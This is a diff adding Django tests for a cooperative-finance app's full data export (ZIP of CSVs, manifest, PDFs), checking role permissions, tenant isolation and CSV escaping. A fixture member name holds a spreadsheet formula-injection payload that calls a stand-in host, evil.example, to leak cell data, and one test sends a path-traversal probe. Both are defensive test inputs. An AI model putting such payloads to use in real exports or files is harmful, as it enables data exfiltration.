@@ -1,0 +1,106 @@
+"""A manager exports all of the cooperative's data: a background job (inline in tests) writes one ZIP with a
+CSV per tenant table, the audit trail, a manifest with row counts and ledger totals, and the statements as
+PDF; the page shows the job and offers the download. Nothing of another cooperative is in it."""
+
+import csv
+import io
+import json
+import zipfile
+
+import pytest
+
+from koperasi.accounts.models import AuditEvent
+from koperasi.core.book_figures import book_figures
+from koperasi.core.data_export import export_path
+from koperasi.tenancy.context import cooperative_context
+from koperasi.tenancy.models import Role
+from tests.factories.members import ActiveMemberFactory, funded_account
+from tests.factories.tenancy import user_with_role
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture
+def books(coop, other_coop, settings, tmp_path):
+    settings.MEDIA_ROOT = tmp_path
+    with cooperative_context(coop.pk):
+        member = ActiveMemberFactory(name='=HYPERLINK("http://evil.example/?x="&A1,"klik")')
+        funded_account("300000.00", member=member)
+    with cooperative_context(other_coop.pk):
+        ActiveMemberFactory(name="Budi Koperasi B")
+    return member
+
+
+def _export(client, coop):
+    started = client.post(f"/k/{coop.slug}/export/start/")
+    assert started.status_code == 302
+    page = client.get(started["Location"])
+    assert page.status_code == 200
+    job = started["Location"].split("job=")[1]
+    return job, page.content.decode()
+
+
+def _table(archive: zipfile.ZipFile, name: str) -> list[dict]:
+    text = archive.read(f"tables/{name}.csv").decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_a_manager_exports_every_table_the_manifest_and_the_statements(client, coop, manager, books):
+    client.force_login(manager)
+    job, page = _export(client, coop)
+    assert 'data-testid="download"' in page and "Done:" in page
+    download = client.get(f"/k/{coop.slug}/export/{job}/download/")
+    assert download.status_code == 200 and download["Content-Type"] == "application/zip"
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
+    manifest = json.loads(archive.read("manifest.json"))
+    with cooperative_context(coop.pk):
+        figures = book_figures()
+    assert manifest["cooperative"]["slug"] == coop.slug and manifest["generated_at"]
+    assert manifest["ledger"] == figures["ledger"] and figures["ledger"]["debit"] != "0.00"
+    assert {label: manifest["rows"][label] for label in figures["rows"]} == figures["rows"]
+    for label, count in figures["rows"].items():  # one CSV per tenant table, as many rows as the table has
+        assert len(_table(archive, label)) == count, label
+    members = _table(archive, "members.Member")
+    assert [row["name"] for row in members] == ["'" + books.name]  # the formula is text, not a formula
+    assert {row["cooperative_id"] for row in members} == {str(coop.pk)}
+    events = _table(archive, "accounts.AuditEvent")
+    assert events and {row["cooperative_id"] for row in events} == {str(coop.pk)}
+    assert "savings.deposit" in {row["action"] for row in events}
+    assert any(name.startswith("documents/") and name.endswith(".pdf") for name in archive.namelist())
+    for name in manifest["documents"]:
+        assert archive.read(f"documents/{name}").startswith(b"%PDF")
+    assert manifest["documents_not_made"] == []
+    assert b"Budi Koperasi B" not in b"".join(archive.read(name) for name in archive.namelist())
+    with cooperative_context(coop.pk):
+        assert AuditEvent.objects.filter(cooperative_id=coop.pk, action="data.exported", actor=manager).exists()
+
+
+def test_staff_and_assessors_cannot_export(client, coop, staff, books):
+    client.force_login(staff)
+    assert client.get(f"/k/{coop.slug}/export/").status_code == 403
+    assert client.post(f"/k/{coop.slug}/export/start/").status_code == 403
+    client.force_login(user_with_role(coop, Role.ASSESSOR, username="penilai"))
+    assert client.get(f"/k/{coop.slug}/export/").status_code == 403
+    assert client.post(f"/k/{coop.slug}/export/start/").status_code == 403
+
+
+def test_another_cooperatives_export_cannot_be_downloaded(client, coop, other_coop, manager, books):
+    client.force_login(user_with_role(other_coop, Role.MANAGER, username="manajer-b"))
+    job, _page = _export(client, other_coop)
+    assert export_path(other_coop.pk, job).is_file()
+    client.force_login(manager)
+    assert client.get(f"/k/{coop.slug}/export/{job}/download/").status_code == 404
+    assert client.get(f"/k/{other_coop.slug}/export/{job}/download/").status_code == 404  # no role in B
+    assert client.get(f"/k/{coop.slug}/export/..%2F..%2Fsecret/download/").status_code == 404
+
+
+def test_the_page_shows_a_running_jobs_progress(client, coop, manager, books):
+    from django.core.cache import cache
+
+    from koperasi.core.tasks import export_job_key
+
+    cache.set(export_job_key(coop.pk, "abc-123"), {"state": "STARTED", "done": 3, "total": 40})
+    client.force_login(manager)
+    html = client.get(f"/k/{coop.slug}/export/", {"job": "abc-123"}).content.decode()
+    assert '<progress max="40" value="3">' in html and 'http-equiv="refresh"' in html
+    assert 'data-testid="download"' not in html
